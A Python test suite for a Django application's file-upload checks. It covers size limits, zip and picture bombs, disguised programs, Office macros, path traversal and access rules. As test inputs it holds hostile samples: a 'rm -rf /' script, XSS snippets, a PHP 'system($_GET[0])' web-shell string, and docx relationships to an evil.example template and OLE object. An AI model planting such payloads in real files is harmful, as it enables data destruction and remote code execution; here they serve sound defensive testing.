"""What somebody might send, and what comes of it: a sentence, nothing kept, an entry in the record."""

from __future__ import annotations

import io
import struct
import threading
import time
import zipfile
import zlib

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadhandler import StopUpload
from django.test import RequestFactory
from django.urls import reverse
from PIL import Image

from wugong.common.errors import Denied, Invalid, Refusal, Unseen
from wugong.files import pictures, rules, storage, uploads
from wugong.files.intake import take_in
from wugong.files.models import Attachment, Content
from wugong.files.tests.conftest import docx, picture
from wugong.record.models import Entry, Outcome

pytestmark = pytest.mark.django_db


def refused(send, content, name, rule):
    """That the file is refused by this rule, with its sentence, and that nothing of it is kept."""
    with pytest.raises(Invalid) as fault:
        send(content, name)
    assert fault.value.rule == rule
    assert not Attachment.objects.exists()
    assert not Content.objects.exists()
    assert not list(storage.all_contents())
    assert not list(storage.leftovers())
    entry = Entry.objects.filter(act="attach").get()
    assert (entry.outcome, entry.rule) == (Outcome.REFUSED, rule)
    return str(fault.value)


# -- Too much --


class Bottomless(io.RawIOBase):
    """A request body that would never end; counts what was read of it."""

    taken = 0

    def __init__(self, head: bytes) -> None:
        self.head = head

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        block = self.head[self.taken : self.taken + len(buffer)].ljust(len(buffer), b"x")
        buffer[:] = block
        self.taken += len(buffer)
        return len(buffer)


HEAD = b'--edge\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4\n'


@pytest.mark.parametrize("address", ["/files/commitment/{}/", "/sign-in/", "/api/v1/files/of/commitment/{}"])
def test_two_gigabytes_are_refused_before_a_byte_is_read(client, cast, task, address):
    client.force_login(cast.users["liaison_officer"])
    body = Bottomless(HEAD)
    answer = client.generic(
        "POST",
        address.format(task.pk),
        **{"CONTENT_TYPE": "multipart/form-data; boundary=edge", "CONTENT_LENGTH": str(2 * 2**30), "wsgi.input": body},
    )
    assert answer.status_code == 413
    assert "50 MB" in answer.content.decode() or "50 MB" in answer.json()["detail"]
    assert answer["Connection"] == "close"
    assert body.taken == 0


@pytest.mark.parametrize("address", ["files:of_thing", "v1:attach"])
def test_a_body_beyond_the_limit_is_left_where_the_limit_is(client, cast, task, settings, address):
    settings.FILE_LIMIT = 3 * 2**20
    client.force_login(cast.users["liaison_officer"])
    body = Bottomless(HEAD)
    answer = client.generic(
        "POST",
        reverse(address, args=["commitment", task.pk]),
        **{"CONTENT_TYPE": "multipart/form-data; boundary=edge", "CONTENT_LENGTH": str(12 * 2**20), "wsgi.input": body},
    )
    assert answer.status_code == 422
    assert "3 MB" in answer.content.decode()
    assert 3 * 2**20 <= body.taken < 5 * 2**20
    assert not list(storage.leftovers())
    assert not Attachment.objects.exists()


def test_the_limit_counts_what_came_not_what_was_said(settings):
    settings.FILE_LIMIT = 100
    handler = uploads.LimitHandler(RequestFactory().post("/"))
    handler.new_file("file", "a.pdf", "application/pdf", 5)
    handler.receive_data_chunk(b"x" * 100, 0)
    with pytest.raises(StopUpload):
        handler.receive_data_chunk(b"x", 100)


def test_a_place_holds_so_much(send, settings):
    settings.FILE_LIMIT_OWNER = 1000
    send(b"a" * 600, "a.txt")
    with pytest.raises(Refusal) as fault:
        send(b"b" * 600, "b.txt")
    assert fault.value.rule == "file.owner_limit"
    assert Attachment.objects.count() == 1


def test_a_place_holds_so_many(send, monkeypatch):
    monkeypatch.setattr("wugong.files.actions.MOST_IN_ONE_PLACE", 1)
    send(b"a", "a.txt")
    with pytest.raises(Refusal, match="1"):
        send(b"b", "b.txt")


def test_a_person_sends_so_much_a_day_also_when_he_deletes(send, settings, liaison):
    from wugong.files import actions

    settings.FILE_LIMIT_DAY = 1000
    actions.delete(send(b"a" * 600, "a.txt"), actor=liaison)
    with pytest.raises(Refusal) as fault:
        send(b"b" * 600, "b.txt")
    assert fault.value.rule == "file.day_limit"


# -- Bombs --


def test_a_zip_bomb_is_not_unpacked(send):
    content = docx(word__media__bomb_dot_bin=b"\0" * (60 * 2**20))
    assert len(content) < 200_000
    refused(send, content, "纪要.docx", "file.bomb")


def test_many_parts_that_overlap_are_a_bomb(send, monkeypatch):
    monkeypatch.setattr(rules, "MOST_PARTS", 50)
    refused(send, docx(**{f"word__part{n}": b"x" for n in range(60)}), "纪要.docx", "file.bomb")


def test_a_size_that_lies_is_damage(send):
    content = bytearray(docx(word__big_dot_xml=b"<a/>" * 1000))
    place = content.rindex(b"word/big.xml") - 46 + 24  # the uncompressed size in the directory of the archive
    content[place : place + 4] = struct.pack("<L", 10)
    refused(send, bytes(content), "纪要.docx", "file.damaged")


def png_that_says(width, height):
    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(6000, 6000), (9000, 9000), (60_000, 60_000)])
def test_a_picture_that_would_fill_the_memory_is_not_unpacked(send, size):
    refused(send, png_that_says(*size), "图.png", "file.bomb")


def test_pictures_are_drawn_one_at_a_time(send, monkeypatch):
    at_once, most, guard = 0, 0, threading.Lock()
    plain = pictures._unpacked

    def counted(*args, **kwargs):
        nonlocal at_once, most
        with guard:
            at_once += 1
            most = max(most, at_once)
        time.sleep(0.05)
        with guard:
            at_once -= 1
        return plain(*args, **kwargs)

    monkeypatch.setattr(pictures, "_unpacked", counted)
    monkeypatch.setattr(pictures, "WAITING", threading.BoundedSemaphore(4))
    said = []

    def draw():
        with storage.draft() as sent, storage.draft() as kept, storage.draft() as small:
            sent.write_bytes(picture("PNG"))
            try:
                said.append(pictures.redraw(sent, kept, preview=small, name="图.png").width)
            except Refusal as busy:
                said.append(busy.rule)

    threads = [threading.Thread(target=draw) for _n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most == 1
    assert said.count(64) >= 4
    assert said.count(64) + said.count("file.busy") == 8


def test_a_picture_of_a_phone_in_heic_is_kept_as_jpeg(send):
    kept = send(picture("HEIF"), "照片.heic")
    assert (kept.content.mime, kept.name) == ("image/jpeg", "照片.jpg")
    assert Image.open(storage.place_of(kept.content_id)).format == "JPEG"


def test_a_picture_that_breaks_off_is_damage(send):
    refused(send, png_that_says(300, 300), "图.png", "file.damaged")


# -- Programs in disguise --

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize("name", ["图.svg", "图.png", "图.txt"])
@pytest.mark.parametrize("before", [b"", b'<?xml version="1.0"?>\n', b"\xef\xbb\xbf \n"])
def test_an_svg_is_refused_whatever_it_is_called(send, name, before):
    assert "SVG" in refused(send, before + SVG, name, "file.kind")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"<!DOCTYPE html><script>alert(1)</script>", "通知.html"),
        (b"<html><body onload=alert(1)>", "通知.txt"),
        (b"MZ\x90\x00\x03" + b"\0" * 200, "安装.exe"),
        (b"#!/bin/sh\nrm -rf /\n", "a.sh"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "旧.doc"),
        (b"\0\0\0\x18ftypavif\0\0\0\0avifmif1", "照片.avif"),
        (b"text\0with\x01signs", "a.txt"),
    ],
)
def test_what_is_not_on_the_list_is_refused(send, content, name):
    refused(send, content, name, "file.kind")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (picture(), "报告.pdf"),
        (b"%PDF-1.4\n1 0 obj\n", "照片.jpg"),
        (docx(), "表.xlsx"),
        ("普通文字".encode(), "合同.docx"),
        (picture("PNG"), "照片.jpg"),
    ],
)
def test_an_ending_that_lies_is_refused_with_what_the_file_is(send, content, name):
    assert rules.ending_of(name) in refused(send, content, name, "file.lies")


@pytest.mark.parametrize("form", ["JPEG", "PNG", "GIF", "WEBP"])
def test_a_picture_that_is_a_script_too_keeps_the_picture_only(send, form):
    payload = b"/*<script>alert(document.domain)</script><?php system($_GET[0]) ?>*/"
    kept = send(picture(form) + payload, f"图.{form.lower()}")
    content = storage.place_of(kept.content_id).read_bytes()
    assert b"script" not in content
    assert b"php" not in content
    assert Image.open(io.BytesIO(content)).size == (64, 48)


def test_what_is_hidden_in_a_picture_stays_behind(send):
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "PhoneMaker", 6
    exif.get_ifd(0x8825)[1] = "N"
    kept = send(picture(size=(60, 40), exif=exif, comment=b"at home"), "现场.jpg")
    content = storage.place_of(kept.content_id).read_bytes()
    found = Image.open(io.BytesIO(content))
    assert not found.getexif()
    assert b"PhoneMaker" not in content
    assert b"at home" not in content
    assert found.size == (40, 60)  # turned upright, as the camera meant it
    assert (kept.content.width, kept.content.height) == (40, 60)


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word__vbaProject_dot_bin", b"\xd0\xcf\x11\xe0"),
        ("word__activeX__activeX1_dot_xml", b"<a/>"),
        ("word__embeddings__start_dot_exe", b"MZ"),
        ("word__embeddings__start_dot_hta", b"<hta:application>"),
        ("word__embeddings__start_dot_lnk", b"L\0\0\0"),
        (
            "word___rels__remote_dot_xml_dot_rels",
            b"<Relationships><Relationship TargetMode='External' Target='http://evil.example/a' Id='r1' "
            b"Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject'/></Relationships>",
        ),
        (
            "word___rels__settings_dot_xml_dot_rels",
            b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>',
        ),
    ],
)
def test_macros_are_refused(send, part, content):
    refused(send, docx(**{part: content}), "纪要.docx", "file.macros")


def test_an_archive_is_no_document(send):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
    refused(send, out.getvalue(), "材料.zip", "file.archive")


def test_half_an_archive_is_damage(send):
    refused(send, docx()[:3000], "纪要.docx", "file.damaged")


def test_an_empty_file_is_refused(send):
    refused(send, b"", "空.txt", "file.empty")


# -- Names, repetition, other hats --


def test_a_path_in_a_name_leads_nowhere(upload, folder):
    assert upload("内容".encode(), "../../../tmp/悄悄.txt").status_code == 302
    kept = Attachment.objects.get()
    assert kept.name == "悄悄.txt"
    lying = [path for path in folder.rglob("*") if path.is_file()]
    assert lying == [storage.place_of(kept.content_id)]
    assert folder in lying[0].parents
    assert not str(folder).startswith(str(django_settings.STATIC_ROOT))


def test_who_sends_twice_attaches_once(upload):
    assert upload("内容".encode()).status_code == 302
    assert upload("内容".encode()).status_code == 302
    assert Attachment.objects.count() == 1
    assert Entry.objects.filter(act="attach", outcome=Outcome.DONE).count() == 1


def test_what_bears_a_mark_of_secrecy_is_not_taken(send, upload):
    with pytest.raises(Invalid) as refused:
        send("内容".encode(), "机密★1年 方案.txt")
    assert refused.value.rule == "file.secret"
    assert "机密★1年" in upload("内容".encode(), "机密★1年 方案.txt").content.decode()
    assert not Attachment.objects.exists()
    assert Entry.objects.filter(act="attach", outcome=Outcome.REFUSED).count() == 2
    send("内容".encode(), "保守国家秘密宣传.txt")


def test_the_same_picture_is_attached_once_although_it_is_drawn_anew(send):
    assert send(picture(), "a.jpg") == send(picture(), "b.jpg")


def test_the_same_picture_with_a_byte_behind_it_is_attached_once(send):
    assert send(picture(), "a.jpg") == send(picture() + b"\0", "b.jpg")
    assert (Attachment.objects.count(), Content.objects.count()) == (1, 1)


@pytest.mark.parametrize("who", ["stranger", "resident", "retired_mediator", "system_administrator"])
def test_who_does_not_see_the_thing_finds_no_file(client, cast, send, who):
    kept = send(b"inside", "a.txt")
    client.force_login(cast.users[who])
    for name in ("content", "preview", "withdraw"):
        assert client.get(reverse(f"files:{name}", args=[kept.pk])).status_code == 404
    assert client.post(reverse("files:delete", args=[kept.pk])).status_code == 404
    assert client.get(f"/api/v1/files/{kept.pk}/content").status_code == 404


def test_another_hat_of_the_same_person_sees_what_it_sees(cast, client, send, task):
    from datetime import date

    from wugong.common.actor import SYSTEM, Role
    from wugong.organisations.actions.posts import assign, found_post
    from wugong.organisations.models import Post
    from wugong.places.testing import OTHER_STREET

    kept = send(b"inside", "a.txt")
    post = found_post(Post(title="联络员", organisation=cast.far_unit, role=Role.UL, scope=OTHER_STREET), actor=SYSTEM)
    assign(post, user=cast.liaison_officer, since=date(2024, 1, 1), actor=SYSTEM)
    client.force_login(cast.liaison_officer)
    address, answers = reverse("files:content", args=[kept.pk]), {}
    from wugong.accounts.queries import actor_of

    for hat in actor_of(cast.liaison_officer).hats:
        client.post(reverse("web:wear"), {"hat": hat.key})
        answers[hat.place] = client.get(address).status_code
    assert sorted(answers.values()) == [200, 404]


def test_who_sees_the_thing_but_takes_no_part_attaches_nothing(cast, send):
    with pytest.raises(Denied):
        send(b"x", actor=cast.actor("supervisor"))
    assert not Attachment.objects.exists()
    assert Entry.objects.get(act="attach").outcome == Outcome.DENIED


def test_a_closed_matter_takes_no_more(cast, task, send):
    from wugong.flow.actions import take

    take(task, "withdraw", reason="不再需要", actor=cast.actor("street_secretary"))
    with pytest.raises(Denied):
        send(b"x")


def test_what_is_no_owner_has_no_files(liaison, task):
    with pytest.raises(Unseen):
        take_in("user", task.pk, None, actor=liaison)
